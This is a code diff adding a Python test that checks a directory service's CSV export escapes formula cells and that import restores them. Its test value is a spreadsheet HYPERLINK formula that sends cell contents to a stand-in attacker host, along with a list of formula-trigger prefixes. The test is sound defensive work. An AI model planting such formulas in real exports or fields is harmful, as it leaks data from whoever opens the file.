@@ -13,7 +13,8 @@ from seed import DEFAULT_SEED_DIR
 from service.security.identity import Identity, Role
 from service.store import Executor
 from service.store.migrator import migrate
-from service.usecases import bulk
+from service.domain.enums import Availability
+from service.usecases import availability, bulk
 from service.usecases.bulk.formats import render
 from service.usecases.bulk.records import BY_NAME, ENTITIES
 from service.usecases.caller import Caller
@@ -272,3 +273,40 @@ async def test_a_version_cell_is_checked_when_given_and_an_empty_one_is_not(demo
     assert [(o.rank, o.version) for o in officers] == [("Inspecteur", 2), ("Commissaris", 2)]
     stale = await bulk.import_directory(demo_store, ADMIN, files(officers_csv=rows), apply=True)
     assert [(p.line, p.column) for p in stale.plan.problems] == [(3, "version")]
+
+
+# -- formula cells (issue 20, item 8) ----------------------------------------------------------------
+
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Click for my schedule")'
+
+
+def _officer_row(exported: dict[str, bytes], officer_id: str) -> dict[str, str]:
+    rows = csv.DictReader(io.StringIO(exported["officers.csv"].decode()))
+    return next(row for row in rows if row["id"] == officer_id)
+
+
+async def test_formula_cells_are_neutralised_on_export_and_restored_on_import(demo_store: Executor, empty_store: Executor) -> None:
+    lo = Caller(Identity("lo:LO-001", frozenset({Role.LIAISON_OFFICER}), "BE-FEDPOL", "LO-001"), "own record", "req-2", date(2026, 11, 24))
+    [before] = await DirectoryReads(demo_store).officer.load_many(["LO-001"])
+    await availability.set_availability(
+        demo_store, lo, officer_id=None, status=Availability.LIMITED, note=FORMULA_NOTE, version=before.version
+    )
+    [colleague] = await DirectoryReads(demo_store).officer.load_many(["LO-002"])
+    tricky = "'@already quoted"
+    await availability.set_availability(
+        demo_store, ADMIN, officer_id="LO-002", status=Availability.AVAILABLE, note=tricky, version=colleague.version
+    )
+
+    exported = await bulk.export_directory(demo_store, ADMIN, "csv")
+
+    cells = [cell for row in csv.reader(io.StringIO(exported["officers.csv"].decode())) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
+    assert _officer_row(exported, "LO-001")["availabilityNote"] == "'" + FORMULA_NOTE
+    assert _officer_row(exported, "LO-002")["availabilityNote"] == "'" + tricky
+
+    await migrate(empty_store)
+    report = await bulk.import_directory(empty_store, ADMIN, bulk.read_sources(list(exported.items())), apply=True)
+    assert report.applied and not report.plan.problems
+    imported = await DirectoryReads(empty_store).officer.load_many(["LO-001", "LO-002"])
+    assert [o.availabilityNote for o in imported] == [FORMULA_NOTE, tricky]
+    assert await bulk.export_directory(empty_store, ADMIN, "csv") == exported  # byte for byte
